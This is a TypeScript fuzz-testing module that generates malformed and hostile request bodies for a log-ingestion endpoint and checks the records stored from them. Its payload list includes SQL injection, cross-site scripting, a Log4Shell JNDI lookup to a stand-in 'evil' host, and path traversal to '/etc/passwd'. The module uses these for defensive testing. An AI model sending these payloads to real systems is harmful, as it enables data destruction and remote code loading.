// Generators of hostile /log/ingest bodies, and an independent check of what may be stored.
import { gzipSync, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import type { LogRecord } from '../../src/domain/log-record.ts';

export const PAYLOADS = [
  "'; DROP TABLE logs; --",
  "' OR '1'='1",
  "Robert'); DROP TABLE students;--",
  '$1; SELECT pg_sleep(10)',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%0d%0a',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udc00y',
  '\u202e\u200b',
  '🔥💥',
  '\\',
  '"',
  '\r\n',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-0',
  '',
  ' ',
];

const ONE_MB = 'x'.repeat(1024 * 1024);

/** Any UTF-16 code unit, lone surrogates included (fast-check's own units are well-formed). */
const anyCodeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));

export const hostileString = fc.oneof(
  { arbitrary: fc.string({ maxLength: 40 }), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: anyCodeUnit, maxLength: 20 }), weight: 2 },
  { arbitrary: fc.constantFrom(...PAYLOADS), weight: 3 },
);

export const hostileNumber = fc.oneof(
  fc.double(),
  fc.integer(),
  fc.constantFrom(1e308, -1e308, 2 ** 53 + 1, -(2 ** 63), 5e-324, 0, -0, Number.NaN, Infinity, -Infinity),
);

const wrongType = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.integer(), { maxKeys: 3 }),
);

const DAY = 86_400_000;
const timestamp = fc.oneof(
  // Mostly recent (accepted), as ISO strings, epoch ms, epoch seconds and zone-less text.
  { arbitrary: fc.integer({ min: -30 * DAY, max: DAY / 2 }).map((d) => new Date(Date.now() + d).toISOString()), weight: 6 },
  { arbitrary: fc.integer({ min: -30 * DAY, max: 0 }).map((d) => Date.now() + d), weight: 2 },
  { arbitrary: fc.integer({ min: -30 * DAY, max: 0 }).map((d) => (Date.now() + d) / 1000), weight: 2 },
  { arbitrary: fc.integer({ min: -30 * DAY, max: 0 }).map((d) => new Date(Date.now() + d).toISOString().slice(0, 19)), weight: 1 },
  // Future, ancient and nonsense.
  {
    arbitrary: fc.oneof(
      fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
      fc.constantFrom(
        '9999-12-31T23:59:59Z',
        '1970-01-01T00:00:00Z',
        '1999-12-31T23:59:59.999Z',
        '+275760-09-13T00:00:00Z',
        '2026-13-45T99:99:99Z',
        'yesterday',
        '0',
      ),
      hostileNumber,
      hostileString,
      wrongType,
    ),
    weight: 3,
  },
);

/** Usually a valid value; sometimes hostile, of the wrong type, or missing (undefined is dropped by JSON). */
const sometimes = <T>(valid: fc.Arbitrary<T>, weight = 30) =>
  fc.oneof(
    { arbitrary: valid, weight },
    { arbitrary: hostileString, weight: 1 },
    { arbitrary: hostileNumber, weight: 1 },
    { arbitrary: wrongType, weight: 1 },
    { arbitrary: fc.constant(undefined), weight: 1 },
  );

/** Nested `depth` levels deep, as JSON text: a value for `extra`, or a whole line. */
export const deepJson = (depth: number, kind: 'object' | 'array') =>
  kind === 'object' ? `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}` : `${'['.repeat(depth)}1${']'.repeat(depth)}`;

/** A record-like object: every field usually valid, sometimes hostile, sometimes missing. */
export const recordLike = fc.record(
  {
    timestamp,
    path: sometimes(
      fc.oneof(
        fc.webPath(),
        fc.string({ maxLength: 30 }).map((s) => `/api/${s}`),
        fc.constantFrom(...PAYLOADS).map((p) => `/q?x=${p}`),
      ),
    ),
    method: sometimes(fc.constantFrom('GET', 'POST', 'put', ' delete ', 'PATCH', 'M-SEARCH', 'OPTIONS')),
    status: sometimes(fc.oneof(fc.integer({ min: 100, max: 599 }), fc.constantFrom('200', ' 404 ', '500.0'))),
    latency_ms: sometimes(
      fc.oneof(fc.double({ min: 0, max: 100_000, noNaN: true }), fc.integer({ min: 0, max: 5000 }), fc.constantFrom('12.5', '1e3')),
    ),
    user_agent: sometimes(fc.string({ maxLength: 60 })),
    ip_address: sometimes(fc.oneof(fc.ipV4(), fc.ipV6())),
    client_ip: sometimes(fc.ipV4()),
    request_id: sometimes(fc.uuid()),
    service: sometimes(fc.constantFrom('svc-a', 'svc.b', 'svc:c/d')),
    bytes: sometimes(fc.integer({ min: 0, max: 10_000_000 })),
    extra: fc.oneof(
      fc.jsonValue({ maxDepth: 4 }),
      hostileString,
      fc.integer({ min: 15, max: 40 }).map((d) => JSON.parse(deepJson(d, 'object')) as unknown),
    ),
    tags: fc.dictionary(fc.string({ maxLength: 12 }), fc.oneof(fc.string({ maxLength: 12 }), hostileNumber, fc.boolean()), { maxKeys: 4 }),
  },
  { requiredKeys: ['timestamp', 'path', 'method', 'status', 'latency_ms'] },
);

/** One line of a json_lines body: usually a record, sometimes something that is not one. */
const line = fc.oneof(
  { arbitrary: recordLike.map((r) => JSON.stringify(r)), weight: 240 },
  // Raw numeric literals JSON.stringify would never write (1e999, huge integers), and NaN.
  {
    arbitrary: fc
      .tuple(
        recordLike,
        fc.constantFrom('1e999', '-1e999', '123456789012345678901234567890', '0.0000000000000000000000001', 'NaN', '-', '1.', '01'),
      )
      .map(([r, n]) => JSON.stringify({ ...r, latency_ms: '§' }).replace('"§"', n)),
    weight: 40,
  },
  { arbitrary: fc.integer({ min: 1, max: 20_000 }).chain((d) => fc.constantFrom(deepJson(d, 'object'), deepJson(d, 'array'))), weight: 20 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v) ?? 'null'), weight: 20 },
  { arbitrary: hostileString.map((s) => s.replaceAll('\n', ' ')), weight: 20 },
  { arbitrary: recordLike.map((r) => JSON.stringify(r).slice(0, -3)), weight: 20 },
  // A 1 MB string now and then (a few bodies in a hundred): truncated in path and user agent,
  // refused in extra fields, never a crash.
  {
    arbitrary: fc
      .tuple(recordLike, fc.constantFrom('path', 'user_agent', 'note'))
      .map(([r, key]) => JSON.stringify({ ...r, [key]: `/${ONE_MB}` })),
    weight: 1,
  },
);

export interface FuzzBody {
  body: Buffer;
  headers: Record<string, string>;
  /** What the generator built, for the report. */
  kind: string;
}

const CONTENT_TYPES = [
  'application/x-ndjson',
  'application/json',
  'text/plain',
  'application/json; charset=utf-8',
  'application/x-ndjson, application/x-ndjson',
  'text/html',
  'multipart/form-data',
];

const text = fc.oneof(
  { arbitrary: fc.array(line, { minLength: 1, maxLength: 25 }).map((ls) => ({ kind: 'json_lines', text: ls.join('\n') })), weight: 6 },
  { arbitrary: fc.array(recordLike, { minLength: 1, maxLength: 15 }).map((rs) => ({ kind: 'json', text: JSON.stringify(rs) })), weight: 2 },
  {
    arbitrary: fc
      .array(recordLike, { minLength: 1, maxLength: 10 })
      .map((rs) => ({ kind: 'json_stream', text: rs.map((r) => JSON.stringify(r)).join('') })),
    weight: 2,
  },
  {
    arbitrary: fc.constantFrom('', ' ', '\n\n', '[', '[]', '{}', 'null', '[1,2', '{"path":').map((t) => ({ kind: 'edge', text: t })),
    weight: 1,
  },
);

/** A whole request: body bytes, content type and encoding, mostly plausible and often broken. */
export const fuzzBody: fc.Arbitrary<FuzzBody> = fc
  .tuple(
    text,
    fc.oneof(
      { arbitrary: fc.constant('plain' as const), weight: 4 },
      { arbitrary: fc.constant('gzip' as const), weight: 3 },
      { arbitrary: fc.constant('gzip-truncated' as const), weight: 2 },
      { arbitrary: fc.constant('deflate' as const), weight: 1 },
      { arbitrary: fc.constant('gzip-unlabelled' as const), weight: 1 },
      { arbitrary: fc.constant('invalid-utf8' as const), weight: 2 },
      { arbitrary: fc.constant('random-bytes' as const), weight: 1 },
      { arbitrary: fc.constant('wrong-encoding' as const), weight: 1 },
    ),
    fc.oneof({ arbitrary: fc.constant(CONTENT_TYPES[0]!), weight: 8 }, { arbitrary: fc.constantFrom(...CONTENT_TYPES), weight: 2 }),
    fc.uint8Array({ minLength: 1, maxLength: 64 }),
    fc.nat(),
  )
  .map(([{ kind, text }, encoding, contentType, bytes, cut]) => {
    const raw = Buffer.from(text, 'utf8');
    const headers: Record<string, string> = { 'content-type': contentType };
    switch (encoding) {
      case 'plain':
        return { body: raw, headers, kind };
      case 'gzip':
        return { body: gzipSync(raw), headers: { ...headers, 'content-encoding': 'gzip' }, kind: `${kind}+gzip` };
      case 'gzip-truncated': {
        const gz = gzipSync(raw);
        return {
          body: gz.subarray(0, cut % gz.length),
          headers: { ...headers, 'content-encoding': 'gzip' },
          kind: `${kind}+truncated-gzip`,
        };
      }
      case 'deflate':
        return { body: deflateSync(raw), headers: { ...headers, 'content-encoding': 'deflate' }, kind: `${kind}+deflate` };
      case 'gzip-unlabelled':
        return { body: gzipSync(raw), headers, kind: `${kind}+gzip-without-header` };
      case 'invalid-utf8': {
        const at = raw.length ? cut % raw.length : 0;
        return {
          body: Buffer.concat([raw.subarray(0, at), Buffer.from([0xff, 0xc3, 0x28, 0xed, 0xa0, 0x80]), raw.subarray(at)]),
          headers,
          kind: `${kind}+invalid-utf8`,
        };
      }
      case 'random-bytes':
        return {
          body: Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.from(bytes)]),
          headers: cut % 2 ? { ...headers, 'content-encoding': 'gzip' } : headers,
          kind: 'random-bytes',
        };
      case 'wrong-encoding':
        return {
          body: raw,
          headers: { ...headers, 'content-encoding': cut % 2 ? 'br' : 'compress' },
          kind: `${kind}+unsupported-encoding`,
        };
    }
  });

const EARLIEST = Date.UTC(2000, 0, 1);
const METHOD = /^[A-Z][A-Z-]{0,15}$/;
const SERVICE = /^[A-Za-z0-9][A-Za-z0-9._:/-]{0,63}$/;
const cleanText = (s: string | null, max: number) => s === null || (s.length <= max && s.isWellFormed() && !s.includes('\u0000'));

/**
 * What every stored record must satisfy, written independently of the validator: the storage
 * and every reader rely on these (PostgreSQL text without NUL, well-formed strings for jsonb and
 * GraphQL, finite numbers, timestamps inside the accepted window).
 */
export function storedRecordProblems(r: LogRecord, now = Date.now()): string[] {
  const problems: string[] = [];
  const t = r.timestamp.getTime();
  if (!(t >= EARLIEST && t <= now + 86_400_000 + 60_000)) problems.push(`timestamp ${r.timestamp.toISOString()}`);
  if (!(Number.isInteger(r.status) && r.status >= 100 && r.status <= 599)) problems.push(`status ${r.status}`);
  if (!(Number.isFinite(r.latencyMs) && r.latencyMs >= 0 && r.latencyMs <= 86_400_000)) problems.push(`latency ${r.latencyMs}`);
  if (!METHOD.test(r.method)) problems.push(`method ${r.method}`);
  if (!SERVICE.test(r.service)) problems.push(`service ${r.service}`);
  if (!(r.path.length >= 1 && cleanText(r.path, 2048))) problems.push('path');
  if (!cleanText(r.userAgent, 1024)) problems.push('userAgent');
  if (!cleanText(r.ipAddress, 64)) problems.push('ipAddress');
  if (!cleanText(r.requestId, 128)) problems.push('requestId');
  if (r.bytes !== null && !(Number.isInteger(r.bytes) && r.bytes >= 0 && r.bytes <= 2_147_483_647)) problems.push(`bytes ${r.bytes}`);
  if (r.extra !== null) {
    const json = JSON.stringify(r.extra);
    if (json.length > 16 * 1024) problems.push('extra too large');
    if (!json.isWellFormed() || json.includes('\\u0000')) problems.push('extra not storable as jsonb');
  }
  return problems;
}
